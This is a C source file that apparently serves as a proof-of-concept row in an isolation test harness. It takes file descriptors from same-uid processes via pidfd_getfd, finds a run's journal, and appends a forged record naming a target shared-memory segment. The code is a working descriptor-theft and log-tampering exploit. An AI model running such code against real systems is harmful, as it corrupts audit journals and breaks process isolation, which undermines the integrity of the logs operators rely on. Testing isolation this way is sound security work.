/* Row 1: run as the uid of a scenario actor (`process U uid N`). Finds the
 * harness processes of this uid, copies each of their descriptors with
 * pidfd_getfd(2) and, on the first one that is a run's journal, appends a
 * record naming the segment TARGET (its cpid and ctime read from the
 * world-readable /proc/sysvipc/shm), copying the scenario, line, process and
 * namespace fields of the journal's first record. Prints every descriptor
 * it got (the control: ptrace access to that uid's processes works) and
 * what it appended. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int identity(int shmid, long *cpid, long *ctime, long *key) {
    FILE *f = fopen("/proc/sysvipc/shm", "r");
    char line[512];
    if (!f) return -1;
    fgets(line, sizeof line, f);
    while (fgets(line, sizeof line, f)) {
        long k, id, perms, size, cp, lp, nat, uid, gid, cuid, cgid, at, dt, ct;
        if (sscanf(line, "%ld %ld %lo %ld %ld %ld %ld %ld %ld %ld %ld %ld %ld %ld", &k, &id, &perms, &size, &cp, &lp, &nat,
                   &uid, &gid, &cuid, &cgid, &at, &dt, &ct) == 14 && id == shmid) {
            *cpid = cp; *ctime = ct; *key = k; fclose(f); return 0;
        }
    }
    fclose(f);
    return -1;
}

static int try_pid(int pid, int target, long cpid, long ctime, long key) {
    char path[64], link[512];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (!d) return 0;
    int pidfd = syscall(SYS_pidfd_open, pid, 0);
    if (pidfd < 0) { closedir(d); return 0; }
    struct dirent *e;
    int done = 0;
    while (!done && (e = readdir(d))) {
        int fd = atoi(e->d_name);
        if (e->d_name[0] == '.') continue;
        int mine = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
        if (mine < 0) { printf("pidfd_getfd(pid %d, fd %d): %s\n", pid, fd, strerror(errno)); continue; }
        snprintf(path, sizeof path, "/proc/self/fd/%d", mine);
        ssize_t n = readlink(path, link, sizeof link - 1);
        if (n > 0) link[n] = 0; else link[0] = 0;
        printf("got fd %d of pid %d: %s\n", fd, pid, link);
        if (!strstr(link, ".journal")) { close(mine); continue; }
        char buf[8192];
        ssize_t got = pread(mine, buf, sizeof buf - 1, 0);
        if (got <= 0) { printf("journal %s of pid %d: empty\n", link, pid); close(mine); continue; }
        buf[got] = 0;
        char *nl = strchr(buf, '\n');
        if (nl) *nl = 0;
        char *sh = strstr(buf, "\"shmid\":"), *ns = strstr(buf, "\"ns\":");
        if (!sh || !ns) { printf("journal record not understood: %s\n", buf); close(mine); continue; }
        char rec[9000];
        int len = snprintf(rec, sizeof rec, "%.*s\"shmid\":%d,\"cpid\":%ld,\"ctime\":%ld,\"key\":%ld,%s\n", (int)(sh - buf), buf,
                           target, cpid, ctime, key, ns);
        if (write(mine, rec, len) != len) { printf("write: %s\n", strerror(errno)); close(mine); continue; }
        printf("stole fd %d of pid %d (%s) and appended a record naming shmid %d: %s", fd, pid, link, target, rec);
        done = 1;
        close(mine);
    }
    close(pidfd);
    closedir(d);
    return done;
}

int main(int argc, char **argv) {
    if (argc < 2) return 2;
    int target = atoi(argv[1]);
    long cpid, ctime, key;
    if (identity(target, &cpid, &ctime, &key)) { printf("no shmid %d\n", target); return 3; }
    DIR *proc = opendir("/proc");
    struct dirent *e;
    while ((e = readdir(proc))) {
        int pid = atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        char path[64];
        struct stat st;
        snprintf(path, sizeof path, "/proc/%d", pid);
        if (stat(path, &st) || st.st_uid != getuid()) continue;
        if (try_pid(pid, target, cpid, ctime, key)) return 0;
    }
    printf("no journal fd reachable from uid %d\n", (int)getuid());
    return 1;
}
